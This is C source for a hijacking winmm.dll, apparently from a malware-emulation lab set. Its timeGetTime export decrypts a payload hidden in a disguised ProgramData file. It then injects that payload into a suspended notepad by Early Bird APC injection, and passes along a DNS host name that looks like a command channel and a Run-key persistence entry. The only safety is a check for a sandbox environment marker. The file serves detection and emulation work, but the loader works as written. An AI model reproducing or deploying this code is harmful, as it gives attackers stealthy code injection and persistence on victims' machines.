/*
 * winmm.c - combo-apc-dns-x86: the winmm.dll planted beside the program, which loads it at run
 * time by its bare name (benign, emulator-only; see ../../lineage-common/common.h).
 *
 * Its own timeGetTime: reads C:\ProgramData\Microsoft\DeviceSync\cache.dat -> CryptoAPI RC4
 * (MD5 of a passphrase, CryptDeriveKey, CryptDecrypt) -> the code to inject. Early Bird APC
 * injection: CreateProcessA notepad CREATE_SUSPENDED, VirtualAllocEx x2, WriteProcessMemory of the
 * code and of its context block (function pointers of this process's kernel32, dnsapi, crypt32,
 * advapi32; the DNS name; the Run key), QueueUserAPC to its main thread, ResumeThread. Returns
 * GetTickCount() as the genuine would.
 */
#include "common.h"
#include "remote.h"
#include <wincrypt.h>

static unsigned char g_buf[0x2000];

static void inject(void)
{
    static const char pass[] = "devicesync-cache-v2";
    static struct remote_ctx ctx;
    static char cmd[] = "C:\\Windows\\SysWOW64\\notepad.exe";
    HCRYPTPROV prov;
    HCRYPTHASH hash;
    HCRYPTKEY key;
    HANDLE f;
    DWORD got = 0, len, i;
    STARTUPINFOA si;
    PROCESS_INFORMATION pi;
    unsigned char *rcode, *rctx;
    SIZE_T written;
    HMODULE k32, dns, c32, adv;

    f = CreateFileA("C:\\ProgramData\\Microsoft\\DeviceSync\\cache.dat", GENERIC_READ, FILE_SHARE_READ, 0, OPEN_EXISTING,
                    FILE_ATTRIBUTE_NORMAL, 0);
    if (f == INVALID_HANDLE_VALUE)
        return;
    if (!ReadFile(f, g_buf, sizeof(g_buf), &got, 0) || got == 0)
        return;
    CloseHandle(f);
    if (!CryptAcquireContextA(&prov, 0, 0, PROV_RSA_FULL, CRYPT_VERIFYCONTEXT) ||
        !CryptCreateHash(prov, CALG_MD5, 0, 0, &hash) || !CryptHashData(hash, (const BYTE *)pass, sizeof(pass) - 1, 0) ||
        !CryptDeriveKey(prov, CALG_RC4, hash, 128u << 16, &key))
        return;
    len = got;
    if (!CryptDecrypt(key, 0, TRUE, 0, g_buf, &len))
        return;
    CryptDestroyKey(key);
    CryptDestroyHash(hash);
    CryptReleaseContext(prov, 0);
    k32 = GetModuleHandleA("kernel32.dll");
    dns = LoadLibraryA("dnsapi.dll");
    c32 = LoadLibraryA("crypt32.dll");
    adv = LoadLibraryA("advapi32.dll");
    ctx.pGetEnvironmentVariableA = (void *)GetProcAddress(k32, "GetEnvironmentVariableA");
    ctx.pDnsQuery_A = (void *)GetProcAddress(dns, "DnsQuery_A");
    ctx.pDnsRecordListFree = (void *)GetProcAddress(dns, "DnsRecordListFree");
    ctx.pCryptStringToBinaryA = (void *)GetProcAddress(c32, "CryptStringToBinaryA");
    ctx.pVirtualAlloc = (void *)GetProcAddress(k32, "VirtualAlloc");
    ctx.pVirtualProtect = (void *)GetProcAddress(k32, "VirtualProtect");
    ctx.pCreateThread = (void *)GetProcAddress(k32, "CreateThread");
    ctx.pWaitForSingleObject = (void *)GetProcAddress(k32, "WaitForSingleObject");
    ctx.pRegCreateKeyExA = (void *)GetProcAddress(adv, "RegCreateKeyExA");
    ctx.pRegSetValueExA = (void *)GetProcAddress(adv, "RegSetValueExA");
    ctx.pRegCloseKey = (void *)GetProcAddress(adv, "RegCloseKey");
    ctx.key = 0xa5c3e17du;
    copy_str(ctx.marker_name, "CHAINREPLAY_SANDBOX", sizeof(ctx.marker_name));
    copy_str(ctx.marker_value, "replay-only", sizeof(ctx.marker_value));
    copy_str(ctx.dns_name, "ds7.cache.example-sync.net", sizeof(ctx.dns_name));
    copy_str(ctx.run_key, "Software\\Microsoft\\Windows\\CurrentVersion\\Run", sizeof(ctx.run_key));
    copy_str(ctx.run_name, "DeviceSync", sizeof(ctx.run_name));
    copy_str(ctx.run_value, "\"C:\\Users\\analyst\\AppData\\Local\\DeviceSync\\syncsvc.exe\" /background", sizeof(ctx.run_value));
    for (i = 0; i < sizeof(si); i++)
        ((unsigned char *)&si)[i] = 0;
    si.cb = sizeof(si);
    if (!CreateProcessA(0, cmd, 0, 0, FALSE, CREATE_SUSPENDED | CREATE_NO_WINDOW, 0, 0, &si, &pi))
        return;
    rcode = (unsigned char *)VirtualAllocEx(pi.hProcess, 0, len, MEM_COMMIT | MEM_RESERVE, PAGE_EXECUTE_READWRITE);
    rctx = (unsigned char *)VirtualAllocEx(pi.hProcess, 0, sizeof(ctx), MEM_COMMIT | MEM_RESERVE, PAGE_READWRITE);
    if (!rcode || !rctx || !WriteProcessMemory(pi.hProcess, rcode, g_buf, len, &written) ||
        !WriteProcessMemory(pi.hProcess, rctx, &ctx, sizeof(ctx), &written))
        return;
    if (!QueueUserAPC((PAPCFUNC)(void *)rcode, pi.hThread, (ULONG_PTR)rctx))
        return;
    ResumeThread(pi.hThread);
    CloseHandle(pi.hThread);
    CloseHandle(pi.hProcess);
}

__declspec(dllexport) DWORD WINAPI planted_timeGetTime(void)
{
    static int done;
    if (!done && marker_present()) {
        done = 1;
        inject();
    }
    return GetTickCount();
}

BOOL WINAPI DllMain(HINSTANCE inst, DWORD reason, LPVOID reserved)
{
    (void)inst;
    (void)reason;
    (void)reserved;
    return TRUE;
}
